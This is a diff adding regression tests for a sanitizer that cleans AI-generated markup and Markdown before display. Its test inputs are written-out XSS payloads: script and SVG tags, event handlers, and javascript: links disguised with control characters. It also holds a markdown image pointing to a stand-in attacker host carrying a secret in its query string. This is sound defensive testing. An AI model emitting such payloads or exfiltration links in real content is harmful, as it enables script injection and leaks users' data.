@@ -0,0 +1,174 @@
+/**
+ * XSS regression tests for the output sanitizer (js/sanitize.js)
+ *
+ * Payloads go through sanitizeNode() as raw markup, the way a model could hand
+ * them over, and through the full renderSanitizedMarkdown() path the panel and
+ * the history page use.
+ */
+
+const test = require('node:test');
+const assert = require('node:assert');
+const { loadScripts, toHtml } = require('./helpers/load-scripts');
+
+const window = loadScripts(['markdown', 'sanitize']);
+
+/**
+ * Parses markup in an inert document and sanitizes it
+ * @param {string} html - Untrusted markup
+ * @returns {string} - Sanitized HTML
+ */
+function sanitizeHtml(html) {
+  const container = window.document.implementation.createHTMLDocument('').createElement('div');
+  container.innerHTML = html;
+  return window.sanitizeNode(container).innerHTML;
+}
+
+/**
+ * Renders Markdown through the renderer and the sanitizer
+ * @param {string} text - Untrusted Markdown
+ * @returns {string} - Sanitized HTML
+ */
+function renderHtml(text) {
+  return toHtml(window, window.renderSanitizedMarkdown(text));
+}
+
+// ===== RAW MARKUP =====
+
+test.describe('sanitizeNode', () => {
+  test('drops script, style and embedding elements with their content', () => {
+    assert.strictEqual(sanitizeHtml('a<script>alert(1)</script>b'), 'ab');
+    assert.strictEqual(sanitizeHtml('<style>body{display:none}</style>x'), 'x');
+    assert.strictEqual(sanitizeHtml('<iframe src="https://evil.example"></iframe>x'), 'x');
+    assert.strictEqual(sanitizeHtml('<object data="evil.swf"></object><embed src="evil.swf">x'), 'x');
+    assert.strictEqual(sanitizeHtml('<form action="https://evil.example"><button>Go</button></form>x'), 'x');
+  });
+
+  test('drops svg and math, including markup nested inside them', () => {
+    assert.strictEqual(sanitizeHtml('<svg onload="alert(1)"><script>alert(1)</script></svg>x'), 'x');
+    assert.strictEqual(sanitizeHtml('<svg><a href="javascript:alert(1)"><text>click</text></a></svg>x'), 'x');
+    assert.strictEqual(sanitizeHtml('<math><mtext><img src=x onerror="alert(1)"></mtext></math>x'), 'x');
+  });
+
+  test('removes event handler and style attributes', () => {
+    assert.strictEqual(sanitizeHtml('<p onclick="alert(1)" style="position:fixed">hi</p>'), '<p>hi</p>');
+    assert.strictEqual(sanitizeHtml('<strong onmouseover="alert(1)">x</strong>'), '<strong>x</strong>');
+    assert.strictEqual(sanitizeHtml('<div ONFOCUS="alert(1)" tabindex="1" autofocus="">x</div>'), '<div>x</div>');
+  });
+
+  test('unwraps unknown elements but keeps their text', () => {
+    assert.strictEqual(sanitizeHtml('<marquee onstart="alert(1)">x <b>y</b></marquee>'), 'x y');
+    assert.strictEqual(sanitizeHtml('<details open ontoggle="alert(1)">x</details>'), 'x');
+  });
+
+  test('removes comments', () => {
+    assert.strictEqual(sanitizeHtml('a<!-- <img src=x onerror=alert(1)> -->b'), 'ab');
+  });
+
+  test('removes javascript:, data: and vbscript: links', () => {
+    assert.strictEqual(sanitizeHtml('<a href="javascript:alert(1)">x</a>'), 'x');
+    assert.strictEqual(sanitizeHtml('<a href="JaVaScRiPt:alert(1)">x</a>'), 'x');
+    assert.strictEqual(sanitizeHtml('<a href="data:text/html,<script>alert(1)</script>">x</a>'), 'x');
+    assert.strictEqual(sanitizeHtml('<a href="vbscript:msgbox(1)">x</a>'), 'x');
+  });
+
+  test('sees through control characters and whitespace in the scheme', () => {
+    assert.strictEqual(sanitizeHtml('<a href="java&#9;script:alert(1)">x</a>'), 'x');
+    assert.strictEqual(sanitizeHtml('<a href="java&#10;script:alert(1)">x</a>'), 'x');
+    assert.strictEqual(sanitizeHtml('<a href="&#1;javascript:alert(1)">x</a>'), 'x');
+    assert.strictEqual(sanitizeHtml('<a href=" &#x7f;javascript:alert(1)">x</a>'), 'x');
+  });
+
+  test('keeps safe links and makes them open safely', () => {
+    assert.strictEqual(
+      sanitizeHtml('<a href="https://ok.example" target="_self" rel="opener">x</a>'),
+      '<a href="https://ok.example" target="_blank" rel="noopener noreferrer">x</a>'
+    );
+    assert.strictEqual(
+      sanitizeHtml('<a href="mailto:a@ok.example">x</a>'),
+      '<a href="mailto:a@ok.example" target="_blank" rel="noopener noreferrer">x</a>'
+    );
+  });
+
+  test('turns images into links, or their alt text if the source is unsafe', () => {
+    assert.strictEqual(
+      sanitizeHtml('<img src="https://img.example/a.png" alt="chart" onerror="alert(1)">'),
+      '<a href="https://img.example/a.png" target="_blank" rel="noopener noreferrer">🖼 chart</a>'
+    );
+    assert.strictEqual(sanitizeHtml('<img src="javascript:alert(1)" alt="chart">'), 'chart');
+  });
+
+  test('only keeps class names the renderer produces', () => {
+    assert.strictEqual(sanitizeHtml('<div class="markdown-body panel-overlay">x</div>'), '<div class="markdown-body">x</div>');
+    assert.strictEqual(sanitizeHtml('<span class="evil">x</span>'), '<span>x</span>');
+  });
+
+  test('only keeps checkbox inputs and valid alignments', () => {
+    assert.strictEqual(sanitizeHtml('<input type="text" value="x"><input type="checkbox" checked="">'), '<input type="checkbox" checked="">');
+    assert.strictEqual(
+      sanitizeHtml('<table><tbody><tr><td align="center">a</td><td align="justify">b</td></tr></tbody></table>'),
+      '<table><tbody><tr><td align="center">a</td><td>b</td></tr></tbody></table>'
+    );
+  });
+});
+
+// ===== MARKDOWN =====
+
+test.describe('renderSanitizedMarkdown', () => {
+  test('raw HTML in a response stays text', () => {
+    assert.strictEqual(
+      renderHtml('<img src=x onerror=alert(1)><script>alert(1)</script>'),
+      '<p>&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>'
+    );
+  });
+
+  test('removes unsafe link destinations', () => {
+    assert.strictEqual(renderHtml('[x](javascript:alert(1))'), '<p>x</p>');
+    assert.strictEqual(renderHtml('[x](JAVASCRIPT:alert(1))'), '<p>x</p>');
+    assert.strictEqual(renderHtml('[x](data:text/html;base64,PHNjcmlwdD4=)'), '<p>x</p>');
+    assert.strictEqual(renderHtml('[x][r]\n\n[r]: javascript:alert(1)'), '<p>x</p>');
+    assert.strictEqual(renderHtml('<javascript:alert(1)>'), '<p>javascript:alert(1)</p>');
+  });
+
+  test('removes link destinations hidden behind control characters', () => {
+    assert.strictEqual(renderHtml('[x](&#1;javascript:alert(1))'), '<p>x</p>');
+    assert.strictEqual(renderHtml('[x](java&#9;script:alert(1))'), '<p>x</p>');
+    assert.strictEqual(renderHtml('[x](\u0001javascript:alert(1))'), '<p>x</p>');
+  });
+
+  test('renders images as links', () => {
+    assert.strictEqual(
+      renderHtml('![](https://attacker.example/?q=secret)'),
+      '<p><a href="https://attacker.example/?q=secret" target="_blank" rel="noopener noreferrer">🖼 image</a></p>'
+    );
+    assert.strictEqual(renderHtml('![x](javascript:alert(1))'), '<p>x</p>');
+  });
+
+  test('never gives an image in the live document a source', () => {
+    const loads = [];
+    const setAttribute = window.Element.prototype.setAttribute;
+    window.Element.prototype.setAttribute = function(name, value) {
+      if (this.localName === 'img' && name.toLowerCase() === 'src' && this.ownerDocument === window.document) {
+        loads.push(value);
+      }
+      return setAttribute.call(this, name, value);
+    };
+
+    try {
+      const fragment = window.renderSanitizedMarkdown('Look: ![](https://attacker.example/?q=secret) ![a][r]\n\n[r]: https://attacker.example/2');
+      assert.strictEqual(fragment.querySelector('img'), null);
+      assert.strictEqual(fragment.ownerDocument, window.document);
+    } finally {
+      window.Element.prototype.setAttribute = setAttribute;
+    }
+    assert.deepStrictEqual(loads, []);
+  });
+
+  test('keeps the renderer output it should', () => {
+    assert.strictEqual(
+      renderHtml('- [x] **done** [docs](https://ok.example)\n\n| a |\n|:-:|\n| 1 |'),
+      '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" disabled="" checked=""> ' +
+        '<strong>done</strong> <a href="https://ok.example" target="_blank" rel="noopener noreferrer">docs</a></li></ul>' +
+        '<table><thead><tr><th align="center">a</th></tr></thead><tbody><tr><td align="center">1</td></tr></tbody></table>'
+    );
+  });
+});